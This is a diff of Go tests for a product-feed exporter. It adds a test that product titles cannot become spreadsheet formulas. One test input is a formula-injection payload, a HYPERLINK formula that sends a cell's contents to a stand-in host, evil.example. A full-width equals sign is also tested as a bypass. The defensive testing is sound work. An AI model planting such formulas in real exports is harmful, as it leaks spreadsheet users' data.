@@ -104,6 +104,26 @@ func TestNoExportHasCellsThatASpreadsheetCalculates(t *testing.T) {
 	}
 }
 
+// A name may begin with a quote, which a reader takes away, or with a wide sign.
+func TestNoQuoteTurnsANameIntoAFormula(t *testing.T) {
+	for _, title := range []string{`"=HYPERLINK(""http://evil.example/?""&A2,""Cheese"")"`, "＝1+1", `"open`} {
+		var out strings.Builder
+		w := NewGoogleWriter(&out)
+		if err := errors.Join(w.Write(Listing{ID: "prd_x_1", Title: title, Link: "http://shop.test/p", Offers: []Offer{{ID: "var_x_1", Price: "1.00", Currency: "USD"}}}), w.Flush()); err != nil {
+			t.Fatal(err)
+		}
+		read := csv.NewReader(strings.NewReader(out.String()))
+		read.Comma = '\t'
+		rows, err := read.ReadAll()
+		if err != nil || len(rows) != 2 {
+			t.Fatalf("%s: %v, %v", title, rows, err)
+		}
+		if got := rows[1][1]; got != title && got != "'"+title || strings.ContainsAny(got[:1], "=+-@") || strings.HasPrefix(got, "＝") {
+			t.Errorf("%s is read as %s", title, got)
+		}
+	}
+}
+
 func TestTheGoogleFeedKeepsItsLimits(t *testing.T) {
 	long := cheese
 	long.ID, long.Title, long.Description = "prd_a-market-with-a-long-cod_01k8y6v0xq7d3mz1n5r2t9w4bc", strings.Repeat("ä", 200), strings.Repeat("ö\t\n", 6000)
@@ -136,7 +156,7 @@ func TestTheGoogleFeedKeepsItsLimits(t *testing.T) {
 		}
 	}
 	want := "var_portland_1\t'=Gouda, aged – Piece\tTwo years old. Nutty & <sweet>.\thttps://shop.test/p/gouda\thttps://shop.test/1\t" +
-		"https://shop.test/2,https://shop.test/3\tout_of_stock\t6.50 USD\tWillow \"Dairy\"\t4006381333931\tyes\tnew\t" +
+		"https://shop.test/2,https://shop.test/3\tout_of_stock\t6.50 USD\t\"Willow \"\"Dairy\"\"\"\t4006381333931\tyes\tnew\t" +
 		"Food, Beverages & Tobacco > Food Items\tDairy & eggs > Cheese\tprd_portland_0\t250 g\t100 g\tpro_portland_0"
 	if lines[2] != want {
 		t.Errorf("got\n%s\nwant\n%s", lines[2], want)
